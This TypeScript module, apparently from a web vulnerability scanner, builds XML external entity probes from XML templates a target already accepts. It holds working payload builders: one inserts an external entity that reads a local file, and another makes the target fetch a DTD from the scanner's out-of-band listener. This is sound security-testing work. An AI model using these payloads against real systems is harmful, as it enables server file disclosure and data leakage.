// Building XXE probe documents from an XML template the target already accepts: the prolog and any
// DOCTYPE are replaced by ours, and every leaf text becomes a reference to our entity so that an
// application echoing any one field shows the expansion. No entity ever refers to another entity
// (no billion-laughs, no recursion).
import type { CrawledPage } from '../types.js';
import type { CrawledRequest } from '../../core/model.js';

export const ENTITY = 'wscxe';

/** True when a value is an XML document or fragment (one root element, closed). */
export function looksLikeXml(value: string): boolean {
  const v = value.trim().replace(/^<\?xml[^>]*\?>\s*/, '');
  return /^<([A-Za-z_][\w.:-]*)(?:\s[^<>]*)?>[\s\S]*<\/\1\s*>$/.test(v);
}

function parts(template: string): { root: string; body: string } {
  const body = template
    .trim()
    .replace(/^<\?xml[^>]*\?>\s*/, '')
    .replace(/^<!DOCTYPE[^[>]*(?:\[[\s\S]*?\])?\s*>\s*/i, '');
  const root = /^<([A-Za-z_][\w.:-]*)/.exec(body)?.[1] ?? 'root';
  return { root, body };
}

function withRefs(body: string): string {
  let replaced = 0;
  const out = body.replace(/>([^<>]*[^<>\s][^<>]*)<\//g, () => {
    replaced++;
    return `>&${ENTITY};</`;
  });
  // a template without text (e.g. <a/>) gets the reference right inside its root
  return replaced > 0 ? out : out.replace(/<\/([A-Za-z_][\w.:-]*)\s*>\s*$/, `&${ENTITY};</$1>`);
}

/** In-band: a general external entity that reads a local file, referenced in every text node. */
export function fileEntityDoc(template: string, systemId: string): string {
  const { root, body } = parts(template);
  return `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE ${root} [<!ENTITY ${ENTITY} SYSTEM "${systemId}">]>\n${withRefs(body)}`;
}

/** Out-of-band: an external parameter entity (the DTD fetch) and a general one, both on our listener. */
export function oobDoc(template: string, probeUrl: string): string {
  const { root, body } = parts(template);
  return `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE ${root} [<!ENTITY % wscxp SYSTEM "${probeUrl}.dtd"> %wscxp; <!ENTITY ${ENTITY} SYSTEM "${probeUrl}.xml">]>\n${withRefs(body)}`;
}

/**
 * A POST the crawler found in a script without a body it could read: when the page's script posts
 * it with an XML content type, the XML literal nearby (or a minimal document) is its template.
 */
export function xmlTemplateFromPage(request: CrawledRequest, pages: readonly CrawledPage[]): string | null {
  if (request.method === 'GET' || request.bodyKind !== undefined || (request.fields?.length ?? 0) > 0) return null;
  const referer = pages.find((p) => p.request.url === request.referer || p.response.url === request.referer);
  if (!referer) return null;
  const path = new URL(request.url).pathname;
  const body = referer.response.body;
  for (let at = body.indexOf(path); at !== -1; at = body.indexOf(path, at + 1)) {
    const window = body.slice(at, at + 800);
    if (!/\b(?:application|text)\/(?:[\w.+-]+\+)?xml\b/i.test(window)) continue;
    const literal = /(['"`])\s*(<[A-Za-z?][^'"`]*>)\s*\1/.exec(window)?.[2];
    return literal && looksLikeXml(literal) ? literal : '<?xml version="1.0"?><data>1</data>';
  }
  return null;
}

function xmlName(k: string): string {
  const n = k.replace(/[^\w.-]/g, '_');
  return /^[A-Za-z_]/.test(n) ? n : `_${n}`;
}

function toXml(v: unknown, depth: number): string {
  if (v === null || typeof v !== 'object' || depth > 4) return String(v ?? '').replace(/[<&]/g, (c) => (c === '<' ? '&lt;' : '&amp;'));
  if (Array.isArray(v)) return v.slice(0, 5).map((x) => `<item>${toXml(x, depth + 1)}</item>`).join('');
  return Object.entries(v as Record<string, unknown>)
    .slice(0, 30)
    .map(([k, x]) => `<${xmlName(k)}>${toXml(x, depth + 1)}</${xmlName(k)}>`)
    .join('');
}

/**
 * The XML twin of a JSON body, for endpoints whose framework also parses XML (JAX-RS, ASP.NET,
 * Spring with a Jackson XML module): keys become elements under a root named after the path.
 */
export function jsonAsXml(json: string, url: string): string | null {
  let value: unknown;
  try {
    value = JSON.parse(json);
  } catch {
    // not JSON after all: no twin
    return null;
  }
  if (value === null || typeof value !== 'object') return null;
  const last = new URL(url).pathname.split('/').filter(Boolean).pop() ?? 'root';
  const root = /^[A-Za-z_][\w-]*$/.test(last) ? last : 'root';
  const inner = toXml(value, 0);
  return `<?xml version="1.0"?><${root}>${inner === '' ? '1' : inner}</${root}>`;
}

/** GET links whose path says a service may take XML by POST (an import, a feed, SOAP, an API). */
export function xmlServiceLink(url: string): boolean {
  const path = new URL(url).pathname;
  return /(?:^|[/_.-])(?:xml|soap|rpc|xmlrpc|api|service|services|ws|import|feed|upload|convert|parse)(?:$|[/_.-])/i.test(path) && !/\.(?:css|js|png|jpe?g|gif|svg|ico|woff2?|html?)$/i.test(path);
}

/** An answer that says the URL takes no such request: the XML twin is not worth the entity probes. */
export function refusesXml(status: number): boolean {
  return status === 404 || status === 405 || status === 415 || status === 501;
}
